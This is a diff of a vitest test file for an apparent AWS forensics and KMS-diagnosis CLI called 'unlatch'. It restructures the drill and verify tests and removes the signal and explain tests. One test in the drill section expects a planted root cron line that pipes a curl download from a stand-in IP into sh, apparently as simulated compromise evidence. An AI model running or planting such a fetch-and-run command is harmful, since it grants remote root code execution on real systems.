@@ -1,6 +1,6 @@
 import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -27,16 +27,15 @@ const written = (name: string, text: string): string => {
   return file;
 };
 
+const out = join(folder, 'out');
+let run: ReturnType<typeof unlatch>;
+let evidence: string;
+beforeAll(() => {
+  run = unlatch('drill', '--out', out, '--json');
+  evidence = join(out, readdirSync(out)[0] ?? '');
+});
+
 describe('drill', () => {
-  const out = join(folder, 'out');
-  let run: ReturnType<typeof unlatch>;
-  let evidence: string;
-
-  beforeAll(() => {
-    run = unlatch('drill', '--out', out, '--json');
-    evidence = join(out, readdirSync(out)[0] ?? '');
-  });
-
   it('ends with exit 0, a timeline for people, and an answer for programs', () => {
     expect(run.status).toBe(0);
     expect(run.stderr).toContain('KMS refused kms:ReEncryptFrom');
@@ -82,22 +81,28 @@ describe('drill', () => {
     }).stdout;
     expect(cron).toBe('*/10 * * * * root curl -s http://198.51.100.7/x | sh\n');
   });
+
+  it('asks again what a case kept, and comes to the same', () => {
+    const { diagnosis } = JSON.parse(readFileSync(join(evidence, 'report.json'), 'utf8'));
+    const again = JSON.parse(unlatch('explain', join(evidence, 'facts.json'), '--json').stdout);
+    const { cause, layer, statement } = diagnosis;
+    expect(again).toMatchObject({ cause, layer, statement });
+    expect(again.fixes.map(({ statement }: { statement: unknown }) => statement)).toEqual(
+      diagnosis.fixes.map(({ statement }: { statement: unknown }) => statement),
+    );
+  });
 });
 
 describe('verify', () => {
-  const out = join(folder, 'verified');
-  const folderOf = () => join(out, readdirSync(out)[0] ?? '');
-  beforeAll(() => unlatch('drill', '--scenario', 'boundary-denied', '--out', out));
-
   it('finds evidence intact as it was written, and says so', () => {
-    expect(unlatch('verify', folderOf())).toMatchObject({ status: 0, stderr: expect.stringContaining('intact') });
+    expect(unlatch('verify', evidence)).toMatchObject({ status: 0, stderr: expect.stringContaining('intact') });
   });
 
   it('finds a byte that was changed, in the report or in the custody log', () => {
-    const custody = join(folderOf(), 'custody.jsonl');
+    const custody = join(evidence, 'custody.jsonl');
     const before = readFileSync(custody, 'utf8');
     writeFileSync(custody, before.replace('"result":"ok"', '"result":"no"'));
-    const { status, stdout } = unlatch('verify', '--json', folderOf());
+    const { status, stdout } = unlatch('verify', '--json', evidence);
     writeFileSync(custody, before);
     expect(status).toBe(1);
     expect(JSON.parse(stdout)).toMatchObject({
@@ -111,40 +116,6 @@ describe('verify', () => {
       status: 2,
       stderr: expect.stringContaining('expected a manifest.json'),
     });
-  });
-});
-
-describe('signal', () => {
-  it('prints the rule, the function and the signal of each event, or why it is ignored', () => {
-    const { status, stdout } = unlatch(
-      'signal',
-      '--json',
-      'events/aws.kms/create-grant-denied-by-service-control-policy.json',
-      'events/aws.ec2/create-snapshot.json',
-    );
-    expect(status).toBe(0);
-    expect(JSON.parse(stdout)).toMatchObject([
-      {
-        rule: 'ObserveFunctionKmsRefused',
-        function: 'ObserveFunction',
-        signal: { kind: 'denial', action: 'kms:CreateGrant', layer: 'service-control-policy', explicit: true },
-        ignored: null,
-      },
-      { rule: 'ObserveFunctionAcquisitionCalled', signal: { kind: 'call', name: 'CreateSnapshot' }, ignored: null },
-    ]);
-  });
-
-  it('watches another role where it is told to', () => {
-    const { stdout } = unlatch(
-      'signal',
-      '--json',
-      '--response-role',
-      'Forensics*',
-      'events/aws.ec2/create-snapshot.json',
-    );
-    expect(JSON.parse(stdout)).toMatchObject([
-      { rule: null, signal: null, ignored: expect.stringContaining('not a response role') },
-    ]);
   });
 });
 
@@ -163,96 +134,15 @@ describe('invoke', () => {
   });
 });
 
-describe('bad input exits 2 with one clear line: what, where, and what was expected', () => {
-  const scenario = JSON.parse(readFileSync('local/scenario/custom-key-denied.json', 'utf8'));
-  const cases = [
-    {
-      name: 'truncated JSON',
-      args: () => ['signal', written('cut.json', '{"version":"0",')],
-      says: /cut\.json: expected JSON/,
-    },
-    {
-      name: 'a file that is not there',
-      args: () => ['signal', join(folder, 'nowhere.json')],
-      says: /nowhere\.json: cannot be read/,
-    },
-    {
-      name: 'an event that is a list',
-      args: () => ['signal', written('list.json', '[]')],
-      says: /list\.json: expected one event/,
-    },
-    {
-      name: 'a detail that fits no schema',
-      args: () => [
-        'signal',
-        written(
-          'detail.json',
-          JSON.stringify({
-            id: 'x',
-            'detail-type': 'AWS API Call via CloudTrail',
-            source: 'aws.kms',
-            account: '111122223333',
-            time: '',
-            region: 'eu-west-3',
-            detail: {},
-          }),
-        ),
-      ],
-      says: /detail\.json: `detail\.userIdentity`/,
-    },
-    {
-      name: 'a scenario with an unknown key',
-      args: () => [
-        'drill',
-        '--scenario',
-        written('key.json', JSON.stringify({ ...scenario, speed: 'fast' })),
-        '--out',
-        join(folder, 'none'),
-      ],
-      says: /key\.json: .*speed/,
-    },
-    {
-      name: 'a scenario that names a key it does not have',
-      args: () => [
-        'drill',
-        '--scenario',
-        written('name.json', JSON.stringify(scenario).replaceAll('"key":"payments-key"', '"key":"other-key"')),
-        '--out',
-        join(folder, 'none'),
-      ],
-      says: /name\.json: `instances\[0\]\.volumes\[0\]\.key`: there is no key `other-key`/,
-    },
-    {
-      name: 'a parameter that the template does not have',
-      args: () => [
-        'drill',
-        '--scenario',
-        written('parameter.json', JSON.stringify({ ...scenario, parameters: { Speed: '9' } })),
-        '--out',
-        join(folder, 'none'),
-      ],
-      says: /Speed/,
-    },
-    {
-      name: 'a function that is not there',
-      args: () => ['invoke', 'nothing', 'events/by-hand/dry-run.json'],
-      says: /there is no function `nothing`; there are `observe`, `remediate`/,
-    },
-    { name: 'an option that is not there', args: () => ['drill', '--fast'], says: /--fast/ },
-    { name: 'no event', args: () => ['signal'], says: /expected at least one event file/ },
-  ];
-
-  it.each(cases)('$name', ({ args, says }) => {
-    const { status, stdout, stderr } = unlatch(...args());
+describe('exit codes', () => {
+  it('bad input ends with exit 2, and one clear line on standard error alone', () => {
+    const { status, stdout, stderr } = unlatch('signal', join(folder, 'nowhere.json'));
     expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
-    expect(stderr.trim().split('\n')).toEqual([expect.stringMatching(says)]);
-    expect(existsSync(join(folder, 'none'))).toBe(false);
+    expect(stderr.trim().split('\n')).toEqual([expect.stringMatching(/nowhere\.json: cannot be read/)]);
   });
 
-  it('a command that is not there', () => {
-    const { status, stderr } = unlatch('explode');
-    expect(status).toBe(2);
-    expect(stderr).toMatch(/^unlatch: there is no command `explode`\n/);
+  it('the answer no ends with exit 1', () => {
+    expect(unlatch('explain', 'docs/explain/from-an-event.json')).toMatchObject({ status: 1, stdout: '' });
   });
 });
 
@@ -266,64 +156,4 @@ it('a denial of 256 KB, with terminal escapes in it, is read, bounded, and print
   expect(signal).toMatchObject({ action: 'kms:CreateGrant', layer: 'key-policy' });
   expect(signal.message).toHaveLength(4_096);
   expect(stdout).not.toContain('\u001b');
-});
-
-describe('explain', () => {
-  const examples = 'docs/explain';
-  const expected: Readonly<Record<string, object>> = {
-    'allowed-but-for-what-is-not-known.json': { status: 1, decision: 'undetermined', cause: 'undetermined' },
-    'default-key-of-another-region.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
-    'denied-by-the-organisation.json': { status: 1, decision: 'denied', cause: 'service-control-policy-deny' },
-    'from-an-event.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
-    'key-policy-of-another-account.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
-  };
-
-  it.each(readdirSync(examples))('decides the example %s', (name) => {
-    const { status, stdout, stderr } = unlatch('explain', join(examples, name), '--json');
-    const { decision, cause, ...rest } = JSON.parse(stdout);
-    expect({ status, decision, cause }).toEqual(expected[name]);
-    expect(Object.keys(rest)).toEqual(['layer', 'explicit', 'statement', 'explanation', 'missing', 'fixes', 'trace']);
-    expect(stderr).toBe('');
-  });
-
-  it('asks again what a case kept, and comes to the same', () => {
-    const out = join(folder, 'asked-again');
-    unlatch('drill', '--out', out);
-    const evidence = join(out, readdirSync(out)[0] ?? '');
-    const { diagnosis } = JSON.parse(readFileSync(join(evidence, 'report.json'), 'utf8'));
-    const again = JSON.parse(unlatch('explain', join(evidence, 'facts.json'), '--json').stdout);
-    const { cause, layer, statement } = diagnosis;
-    expect(again).toMatchObject({ cause, layer, statement });
-    expect(again.fixes.map(({ statement }: { statement: unknown }) => statement)).toEqual(
-      diagnosis.fixes.map(({ statement }: { statement: unknown }) => statement),
-    );
-  });
-
-  const facts = JSON.parse(readFileSync(join(examples, 'key-policy-of-another-account.json'), 'utf8'));
-  it('ends with exit 0 where KMS allows it', () => {
-    const open = { Effect: 'Allow', Principal: { AWS: '111122223333' }, Action: 'kms:*', Resource: '*' };
-    const key = { ...facts.key, policy: { Version: '2012-10-17', Statement: [open] } };
-    const { status, stdout, stderr } = unlatch('explain', written('open.json', JSON.stringify({ ...facts, key })));
-    expect({ status, stdout }).toEqual({ status: 0, stdout: '' });
-    expect(stderr).toContain('KMS allows kms:CreateGrant');
-    expect(stderr).toContain('What each layer says:');
-  });
-
-  it.each([
-    { name: 'no file', args: [], says: 'expected one file of facts' },
-    { name: 'two files', args: ['a.json', 'b.json'], says: 'expected one file of facts' },
-    { name: 'a file that is not there', args: ['nowhere.json'], says: 'nowhere.json: cannot be read' },
-    { name: 'no JSON', text: '{', says: 'expected JSON' },
-    { name: 'an empty object', text: '{}', says: 'expected either `request`, `event` or `denial`' },
-    { name: 'an event that is no refusal', text: JSON.stringify({ event: { source: 'aws.ec2' } }), says: '`event`: ' },
-    {
-      name: 'an unreadable policy',
-      text: JSON.stringify({ ...facts, key: { policy: { Statement: [{ Effect: 'Deny' }] } } }),
-      says: '`key.policy`: Statement[0]',
-    },
-  ])('refuses $name with exit 2 and one line', ({ args, text, says }) => {
-    const { status, stdout, stderr } = unlatch('explain', ...(args ?? [written('bad.json', text ?? '')]));
-    expect({ status, stdout, lines: stderr.trimEnd().split('\n').length }).toEqual({ status: 2, stdout: '', lines: 1 });
-    expect(stderr).toContain(says);
-  });
 });
